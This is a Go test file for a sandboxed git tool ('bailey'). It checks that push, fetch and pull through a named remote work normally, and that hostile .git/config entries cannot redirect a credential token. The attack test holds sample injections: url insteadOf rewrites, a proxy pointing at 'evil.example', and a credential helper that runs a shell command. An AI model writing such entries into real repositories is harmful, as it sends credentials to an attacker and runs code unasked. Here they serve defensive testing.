//go:build linux

package reach

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"bailey"
	"bailey/internal/ktest"
)

// cloned returns a repository with main, an upstream, and this address of the remote origin.
func (h *hub) cloned(name, url string) string {
	dir := h.work(name)
	said(h.t, "git", "-C", dir, "pull", "-q", filepath.Join(h.dir, "a/b.git"), "main")
	said(h.t, "git", "-C", dir, "update-ref", "refs/remotes/origin/main", "main")
	said(h.t, "git", "-C", dir, "remote", "add", "origin", url)
	said(h.t, "git", "-C", dir, "branch", "-q", "--set-upstream-to=origin/main")
	return dir
}

// does makes a call that must succeed, and returns its output.
func (h *hub) does(id bailey.CapabilityID, dir string, input map[string]any) string {
	h.t.Helper()
	r := h.callAt(id, "repo", dir, input)
	if r.exit.Code != 0 {
		h.t.Fatalf("%s %v: %d\n%s\n%+v", id, input, r.exit.Code, r, r.report)
	}
	return r.String()
}

// TestRemotes checks that everyday work with a remote by its name does what git does without a cage: it moves branches
// there, tracking branches here and the upstream. The token must not reach git or its files.
func TestRemotes(t *testing.T) {
	ktest.Long(t)
	h := newHub(t)
	bare := filepath.Join(h.dir, "a/b.git")
	w := h.cloned("w", "git@github.com:a/b.git")
	said(t, "git", "-C", w, "switch", "-q", "-c", "feature")
	h.commit(w, "feature one", "")
	first := h.id(w, "feature")
	h.does("git.push-remote", w, map[string]any{"remote": "origin", "refs": []any{"feature"}, "options": []any{"-u"}})
	if h.id(bare, "feature") != first || h.id(w, "refs/remotes/origin/feature") != first || h.id(w, "feature@{upstream}") != first {
		t.Error(said(t, "git", "-C", w, "for-each-ref"), said(t, "git", "-C", bare, "for-each-ref"))
	}
	h.commit(w, "feature two", "")
	second := h.id(w, "feature")
	h.does("git.push-remote", w, nil)
	said(t, "git", "-C", w, "tag", "v1")
	h.does("git.push-remote", w, map[string]any{"options": []any{"--tags"}})
	if h.id(bare, "feature") != second || h.id(bare, "v1") != second || h.id(w, "refs/remotes/origin/feature") != second {
		t.Error("the second push: ", said(t, "git", "-C", bare, "for-each-ref"))
	}

	x := h.cloned("x", "https://github.com/a/b.git")
	h.does("git.fetch-remote", x, nil)
	if h.id(x, "refs/remotes/origin/feature") != second || h.id(x, "v1") != second {
		t.Error("the fetch: ", said(t, "git", "-C", x, "for-each-ref"))
	}
	said(t, "git", "-C", bare, "update-ref", "refs/heads/main", second)
	h.does("git.pull", x, map[string]any{"options": []any{"--ff-only"}})
	if h.id(x, "main") != second || h.id(x, "refs/remotes/origin/main") != second {
		t.Error("the pull: ", said(t, "git", "-C", x, "for-each-ref"))
	}
	said(t, "git", "-C", x, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "mine")
	for _, out := range []string{
		h.does("git.pull", x, map[string]any{"rebase": true, "options": []any{"--autostash"}, "remote": "origin", "refs": []any{"main"}}),
		h.does("git.remote-update", x, map[string]any{"prune": true}),
		h.does("git.fetch-all", x, map[string]any{"all": true}),
	} {
		if strings.Contains(out, "fatal") {
			t.Error(out)
		}
	}
	for id, want := range map[bailey.CapabilityID]string{"git.remote-refs": "refs/heads/feature", "git.remote-show": "HEAD branch: main"} {
		if out := h.does(id, x, map[string]any{"remote": "origin"}); !strings.Contains(out, want) {
			t.Errorf("%s: %s", id, out)
		}
	}

	// Without a word that says so, nothing is lost there.
	said(t, "git", "-C", bare, "update-ref", "refs/heads/main", second)
	said(t, "git", "-C", x, "reset", "-q", "--hard", first)
	if r := h.callAt("git.push-remote", "repo", x, map[string]any{"remote": "origin", "refs": []any{"main"}}); r.exit.Code == 0 || h.id(bare, "main") != second {
		t.Errorf("commits are lost: %s", r)
	}
	h.does("git.push-replace", x, map[string]any{"force": true, "remote": "origin", "refs": []any{"main"}})
	h.does("git.push-replace", x, map[string]any{"remote": "origin", "refs": []any{":feature"}})
	h.does("git.push-replace", x, map[string]any{"delete": true, "remote": "origin", "refs": []any{"v1"}})
	if got := said(t, "git", "-C", bare, "for-each-ref", "--format=%(refname) %(objectname)"); got != "refs/heads/main "+first+"\n" {
		t.Errorf("there is %s", got)
	}
	for _, dir := range []string{w, x} {
		h.nowhere(dir)
		h.stayed(dir, "/a/b.git")
	}
}

// TestAttackRemotes checks that a repository cannot give the name of its remote another meaning, and that no token goes
// elsewhere if the configuration changes after it was checked.
func TestAttackRemotes(t *testing.T) {
	ktest.Long(t)
	h := newHub(t)
	other := filepath.Join(h.dir, "a/other.git")
	const url = "https://github.com/a/b.git"
	before := h.id(other, "main")
	w := h.cloned("w", url)
	h.commit(w, "mine", "")
	config, err := os.ReadFile(filepath.Join(w, ".git/config"))
	if err != nil {
		t.Fatal(err)
	}
	set := func(text string) {
		if err := os.WriteFile(filepath.Join(w, ".git/config"), append(config[:len(config):len(config)], text...), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	h.hostile(w)
	for name, text := range map[string]string{
		"all":         hostileRemotes,
		"another":     fmt.Sprintf("[url \"https://github.com/a/other.git\"]\n\tinsteadOf = %s\n", url),
		"same length": fmt.Sprintf("[url \"https://github.com/a/other.git\"]\n\tinsteadOf = %s\n\tpushInsteadOf = %s\n", url, url),
		"two":         "[remote \"origin\"]\n\turl = https://github.com/a/other.git\n",
		"pushed":      "[remote \"origin\"]\n\tpushurl = https://github.com/a/other.git\n",
		"proxy":       "[http \"https://github.com\"]\n\tproxy = http://evil.example:443\n",
		"helper":      "[credential \"https://github.com\"]\n\thelper = \"!touch ran\"\n",
	} {
		for id, input := range map[bailey.CapabilityID]map[string]any{
			"git.push-remote":  {"remote": "origin", "refs": []any{"main"}},
			"git.fetch-remote": {}, "git.pull": {}, "git.remote-refs": {"remote": "origin"},
		} {
			set(text)
			if name != "pushed" { // that is another address, which policy would see
				if r := h.callAt(id, "repo", w, input); r.exit.Code != bailey.NeverRan {
					t.Errorf("%s, %s: it ran\n%s", name, id, r)
				}
			}
			set("")
			h.between = func() { set(text) }
			r := h.callAt(id, "repo", w, input)
			h.between = nil
			if now := h.id(other, "main"); now != before {
				t.Errorf("%s, %s: it went to the other repository\n%s", name, id, r)
			}
		}
	}
	h.nowhere(w)
	h.stayed(w, "/a/b.git")
}
